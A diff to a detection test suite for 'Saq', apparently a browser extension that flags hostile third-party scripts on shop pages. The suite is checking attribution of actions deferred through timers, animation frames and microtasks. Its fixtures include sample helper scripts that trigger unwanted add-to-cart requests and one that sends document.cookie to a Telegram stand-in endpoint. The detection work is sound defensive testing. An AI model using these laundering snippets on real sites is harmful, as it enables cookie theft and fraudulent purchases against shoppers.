@@ -204,12 +204,23 @@ window.addEventListener('message', function (e) {
 });`;
 
 /**
- * Open gap (docs/security.md, "What Saq cannot see"): a helper that has the shop's own code act for it across an
- * async boundary leaves no frame of its own on the stack, and the act is the shop's (or nobody's). Recorded in the
- * detection table, not asserted: [route, the helper's code, the request it makes, what it does].
+ * A helper that has the shop's own code act for it across an async boundary leaves no frame of its own on the stack:
+ * the act read as the shop's (or nobody's). Since stop 52 a callback handed to a timer, an animation frame, an idle
+ * callback, a microtask or `scheduler.postTask` names who scheduled it (src/content/main/scheduled.ts): those cases
+ * are asserted. A promise's reaction, an `await` and a message to the shop's own handler stay an open gap
+ * (docs/security.md, "What Saq cannot see"), recorded in the detection table, not asserted.
+ * [route, the helper's code, the request it makes, what it does, whether Saq now names the helper].
  */
-const LAUNDERED: Array<[string, string, 'cart' | 'telegram', string]> = [
-  ['timer', 'setTimeout(shopAddToCart, 0, 1);', 'cart', "the shop's add-to-cart run by a timer"],
+const LAUNDERED: Array<[string, string, 'cart' | 'telegram', string, boolean?]> = [
+  ['timer', 'setTimeout(shopAddToCart, 0, 1);', 'cart', "the shop's add-to-cart run by a timer", true],
+  [
+    'timer-chain',
+    // Natives and bound functions only: no frame of the helper's is on any stack after its first call.
+    'setTimeout(requestAnimationFrame, 0, queueMicrotask.bind(null, shopAddToCart.bind(null, 1)));',
+    'cart',
+    "the shop's add-to-cart at the end of a timer, an animation frame and a microtask",
+    true,
+  ],
   ['promise', 'Promise.resolve(1).then(shopAddToCart);', 'cart', "the shop's add-to-cart run by a promise"],
   ['message', "window.postMessage({ type: 'shop:add', qty: 1 }, '*');", 'cart', "the shop's own message handler asked to add"],
   ['async-shop', 'shopAddToCartAsync(1);', 'cart', "the shop's add-to-cart that waits for a token first"],
@@ -218,19 +229,21 @@ const LAUNDERED: Array<[string, string, 'cart' | 'telegram', string]> = [
     "setTimeout(fetch, 0, '/api/cart/items', { method: 'POST', credentials: 'include', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify({ productId: 'p-102', qty: 1 }) });",
     'cart',
     'fetch itself handed to a timer',
+    true,
   ],
   [
     'api-client',
     `setTimeout(shopApi.post, 0, '${TELEGRAM}/laundered', document.cookie || 'sid=?');`,
     'telegram',
     "the shop's API client sends the cookie, from a timer",
+    true,
   ],
 ];
 
 describeEachBrowser('attribution across async boundaries (an open gap, recorded)', (context) => {
   const browser = sharedBrowser(context);
-  for (const [route, code, sends, caseName] of LAUNDERED)
-    it(`records a helper laundering its act through the shop's code: ${caseName}`, async ({ task }) => {
+  for (const [route, code, sends, caseName, named] of LAUNDERED)
+    it(`${named ? 'names' : 'records'} a helper laundering its act through the shop's code: ${caseName}`, async ({ task }) => {
       context.shop.setFixture('/assets/shop-library.js', SHOP_LIBRARY, { contentType: 'text/javascript' });
       context.shop.setFixture(`/laundered-${route}.js`, `(function () { ${code} })();`, {
         host: HELPER_CDN,
@@ -252,15 +265,54 @@ describeEachBrowser('attribution across async boundaries (an open gap, recorded)
         (sent) => sent,
         `the helper's ${sends} request`,
       );
-      const named = (await settleAndListLoud(saq, tabId)).filter(
+      const loud = (await settleAndListLoud(saq, tabId)).filter(
         (v) => v.ruleId.startsWith(sends === 'cart' ? 'SAQ-CART-' : 'SAQ-EXF-') && v.finding.actor.type !== 'page',
       );
       recordCase(task, {
         behaviour: sends === 'cart' ? 'cart burst' : 'exfiltration',
         case: `laundered: ${caseName}`,
         malicious: true,
-        flagged: named.length > 0,
+        flagged: loud.length > 0,
         browser: context.browserName,
       });
+      if (named) expect(loud.map((v) => v.finding.actor.url)).toContain(`https://${HELPER_CDN}/laundered-${route}.js`);
     });
+
+  // A scheduling is the running one only while its callback runs: a person's own purchase after a stranger's timers,
+  // animation frames and microtasks ran (and while its interval keeps running) is still the shop's.
+  it("leaves the person's own add to cart to the shop while a stranger's timers run", async ({ task }) => {
+    context.shop.setFixture('/assets/shop-library.js', SHOP_LIBRARY, { contentType: 'text/javascript' });
+    context.shop.setFixture(
+      '/assets/buy-button.js',
+      "document.getElementById('buy').addEventListener('click', function () { shopAddToCart(1).then(function () { window.__sent = true; }); });",
+      { contentType: 'text/javascript' },
+    );
+    context.shop.setFixture(
+      '/busy-timers.js',
+      'setInterval(function () { window.__ticks = (window.__ticks || 0) + 1; }, 20);' +
+        'requestAnimationFrame(function () { queueMicrotask(function () { window.__framed = true; }); });',
+      { host: HELPER_CDN, contentType: 'text/javascript' },
+    );
+    context.shop.setFixture(
+      '/kz/busy-timers',
+      page('/assets/shop-library.js').replace(
+        '</body>',
+        `<button id="buy" type="button">Себетке</button><script src="/assets/buy-button.js"></script><script src="https://${HELPER_CDN}/busy-timers.js"></script></body>`,
+      ),
+    );
+    const saq = await browser();
+    const { page: tab, tabId } = await visit(saq, '/kz/busy-timers');
+    await pollPage(tab, () => ((window as { __ticks?: number }).__ticks ?? 0) > 5, undefined, "the stranger's interval");
+    await tab.click('#buy');
+    await pollPage(tab, () => (window as { __sent?: boolean }).__sent === true, undefined, 'the cart request');
+    const cart = (await settleAndListLoud(saq, tabId)).filter((v) => v.ruleId.startsWith('SAQ-CART-'));
+    recordCase(task, {
+      behaviour: 'cart burst',
+      case: "a person's own add to cart while a stranger's timers run",
+      malicious: false,
+      flagged: cart.length > 0,
+      browser: context.browserName,
+    });
+    expect(describeVerdicts(cart)).toEqual([]);
+  });
 });
